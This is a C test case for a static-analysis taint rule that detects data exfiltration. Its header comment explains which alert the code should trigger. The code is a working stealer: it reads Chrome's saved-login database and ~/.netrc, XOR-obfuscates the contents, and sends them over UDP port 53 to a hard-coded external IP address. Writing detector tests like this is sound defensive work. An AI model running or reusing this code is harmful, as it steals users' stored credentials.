/*
 * behavior.exfiltration: a stealer that reads Chrome's "Login Data" and
 * ~/.netrc, XOR-scrambles each block with a rolling key and sends it in
 * UDP datagrams with sendto to a hard-coded resolver-looking address. The
 * in-place XOR keeps the data flow visible, so taint.exfiltration reports
 * the sendto, as a secret sent (an error): the helper reads the file it is
 * given, and main gives it ~/.netrc, a credential store (the Login Data
 * path is not one of the secret patterns). That error covers the
 * behaviour's warning, which is not reported beside it.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int sock = -1;
static struct sockaddr_in peer;

static void scramble(unsigned char *b, size_t n)
{
    static const unsigned char k[] = {0x5a, 0x13, 0xc7, 0x2e};
    for (size_t i = 0; i < n; i++)
        b[i] ^= k[i % sizeof(k)];
}

static void ship_file(const char *path)
{
    unsigned char block[512];
    size_t n;
    FILE *f = fopen(path, "rb");
    if (!f)
        return;
    while ((n = fread(block, 1, sizeof(block), f)) > 0) {
        scramble(block, n);
        sendto(sock, block, n, 0, (struct sockaddr *)&peer, sizeof(peer)); // $ Alert[taint.exfiltration]
    }
    fclose(f);
}

int main(void)
{
    char path[512];
    const char *home = getenv("HOME");
    if (!home)
        return 0;
    sock = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&peer, 0, sizeof(peer));
    peer.sin_family = AF_INET;
    peer.sin_port = htons(53);
    inet_pton(AF_INET, "91.215.85.17", &peer.sin_addr);

    snprintf(path, sizeof(path), "%s/.config/google-chrome/Default/Login Data", home);
    ship_file(path);
    snprintf(path, sizeof(path), "%s/.netrc", home);
    ship_file(path);
    close(sock);
    return 0;
}
